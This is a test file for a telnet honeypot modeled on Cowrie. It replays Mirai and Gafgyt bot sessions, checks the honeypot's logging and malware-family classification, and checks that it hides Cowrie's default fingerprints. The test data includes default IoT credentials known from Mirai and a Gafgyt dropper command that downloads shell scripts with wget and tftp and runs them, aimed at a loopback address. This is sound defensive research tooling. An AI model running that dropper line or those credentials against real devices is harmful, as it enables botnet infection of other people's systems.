import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { startPeer, type TcpPeer } from '../testing/tcp-peer.js'
import { classifyFamily } from './classify/classify-family.js'
import { miraiLoaderSession, miraiScannerSession } from './testing/mirai-dialogue.js'
import { runScript } from './testing/scripted-client.js'
import { startTestHoneypot, type TestHoneypot } from './testing/test-honeypot.js'

// honeypot tests: 127.90.0.0/16; this file: 127.90.1.0/24 (the honeypot on .1, clients from .10-.99)
const HOST = '127.90.1.1'

describe('telnet honeypot against scripted bots', () => {
  let hp: TestHoneypot
  let fileServer: TcpPeer
  before(async () => {
    hp = await startTestHoneypot(HOST)
    // where the loader's URL points: nothing may ever connect to it
    fileServer = await startPeer('127.90.1.2', 0, (s) => s.destroy())
  })
  after(async () => {
    await hp.honeypot.close()
    await fileServer.close()
  })

  it("completes Mirai's scanner dialogue byte by byte and is classified mirai (MIRAI token)", async () => {
    const outcome = await miraiScannerSession(
      HOST,
      hp.port,
      { username: 'root', password: 'xc3511' },
      '127.90.1.10',
    )
    assert.equal(outcome, 'found')
    const summary = await hp.sessionFrom('127.90.1.10')
    assert.deepEqual(summary.sizes, [{ width: 80, height: 24 }])
    assert.deepEqual(summary.lines, ['enable', 'system', 'shell', 'sh', '/bin/busybox MIRAI'])
    const verdict = classifyFamily([summary])
    assert.equal(verdict.family, 'mirai')
    assert.equal(verdict.variant, 'MIRAI')
    const mine = hp.events.filter((e) => e.session === summary.session).map((e) => e.eventid)
    assert.deepEqual(mine, [
      'cowrie.session.connect',
      'cowrie.client.size',
      'cowrie.login.success',
      ...Array(5).fill('cowrie.command.input'),
      'cowrie.session.closed',
    ])
  })

  it("completes Mirai's loader dialogue: ELF arch read back, .nippon write test, wget recorded and never fetched", async () => {
    const out = await miraiLoaderSession(
      HOST,
      hp.port,
      { username: 'root', password: 'vizxv' },
      `${fileServer.ip}:${fileServer.port}`,
      '127.90.1.11',
    )
    assert.equal(out.stage, 'done')
    assert.equal(out.elfMachine, 40, 'EM_ARM from cat /bin/echo')
    assert.equal(out.arch, 'arm7', 'ARMv7 from /proc/cpuinfo')
    assert.equal(out.writableDir, '/dev')
    assert.equal(out.uploadMethod, 'wget')
    const summary = await hp.sessionFrom('127.90.1.11')
    assert.deepEqual(summary.urls, [`http://${fileServer.ip}:${fileServer.port}/bins/mirai.arm7`])
    const download = hp.events.find(
      (e) => e.session === summary.session && e.eventid === 'cowrie.session.file_download',
    )
    assert.equal(download?.url, summary.urls[0])
    assert.equal(download?.outfile, undefined, 'nothing fetched, nothing stored')
    assert.equal(fileServer.received.length, 0, 'the honeypot never connected to the URL')
    const verdict = classifyFamily([summary])
    assert.equal(verdict.family, 'mirai')
    assert.equal(verdict.variant, 'ECCHI')
    assert.ok(verdict.features.some((f) => f.id === 'nippon-dvrhelper'))
  })

  it('completes a Gafgyt-style dialogue: the gayfgt echo probe answers, the dropper line is recorded', async () => {
    const transcript = await runScript(
      HOST,
      hp.port,
      [
        { expect: 'login: ', send: 'root\r\n' },
        { expect: 'Password: ', send: 'root\r\n' },
        { expect: '# ', send: 'sh\r\n' },
        { expect: '# ', send: "/bin/busybox;echo -e '\\147\\141\\171\\146\\147\\164'\r\n" },
        {
          expect: 'gayfgt',
          send: 'cd /tmp || cd /var/run || cd /mnt; wget http://127.90.1.2/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 127.90.1.2 -c get tftp1.sh; sh tftp1.sh; rm -rf bins.sh tftp1.sh\r\n',
        },
        { expect: 'tftp: timeout', send: 'exit\r\n' },
      ],
      { localAddress: '127.90.1.12' },
    )
    assert.match(transcript, /multi-call binary/)
    const summary = await hp.sessionFrom('127.90.1.12')
    assert.deepEqual(summary.urls, ['http://127.90.1.2/bins.sh', 'tftp://127.90.1.2/tftp1.sh'])
    assert.equal(summary.close_reason, 'exit')
    assert.equal(classifyFamily([summary]).family, 'gafgyt')
  })

  it("a person typing ls and uname -a is not called Mirai and sees none of Cowrie's tells", async () => {
    const commands = [
      'ls',
      'uname -a',
      'cat /proc/cpuinfo',
      'cat /proc/mounts',
      'cat /proc/version',
      'cat /etc/passwd',
      'ps',
      'busybox',
      'hostname',
      'ls /bin',
      'free',
      'df',
    ]
    const steps = [
      { expect: 'login: ', send: 'root\r\n' },
      { expect: 'Password: ', send: 'admin\r\n' },
      ...commands.map((c) => ({ expect: '# ', send: `${c}\r\n` })),
    ]
    const transcript = await runScript(HOST, hp.port, steps, { localAddress: '127.90.1.13' })
    assert.match(transcript, /Linux dvr 3\.0\.8 #1 .* armv7l GNU\/Linux/)
    assert.match(transcript, /Hardware\t: hi3520d/)
    // Cowrie's defaults (cowrie.cfg.dist, honeyfs/): hostname, kernel, passwd user, cpuinfo, mounts, busybox
    for (const tell of [
      'svr04',
      '3.2.0-4',
      'deb7u1',
      'Debian 4.6.3',
      'phil',
      'Phil California',
      'E5-2686',
      'E9-2686',
      'JFFS2 /JFFS2',
      '/dev/mapper/home',
      '1:1.20.0-7',
      'nr_inodes=997843',
      'OpenSSH_6.0p1',
      'x86_64',
    ])
      assert.ok(!transcript.includes(tell), `Cowrie tell ${tell} appeared`)
    const summary = await hp.sessionFrom('127.90.1.13')
    assert.notEqual(classifyFamily([summary]).family, 'mirai')
  })
})

describe('login policy: weak pairs accepted only after N failures from the source', () => {
  let hp: TestHoneypot
  before(async () => {
    hp = await startTestHoneypot('127.90.1.3', { acceptAfter: 4 })
  })
  after(() => hp.honeypot.close())

  it('Mirai reconnecting after each refusal gets in once its source has failed 4 times', async () => {
    // a refused connection costs three attempts: the pair, then enable/system and shell/sh typed at login:
    const cred = { username: 'root', password: 'xc3511' }
    const results = []
    for (let i = 0; i < 3; i++)
      results.push(await miraiScannerSession('127.90.1.3', hp.port, cred, '127.90.1.20'))
    assert.deepEqual(results, ['login-failed', 'login-failed', 'found'])
    // another source starts from zero
    assert.equal(await miraiScannerSession('127.90.1.3', hp.port, cred, '127.90.1.21'), 'login-failed')
  })

  it('a pair outside the weak set never gets in', async () => {
    for (let i = 0; i < 3; i++)
      assert.equal(
        await miraiScannerSession(
          '127.90.1.3',
          hp.port,
          { username: 'root', password: 'n0t-weak!' },
          '127.90.1.22',
        ),
        'login-failed',
      )
  })
})
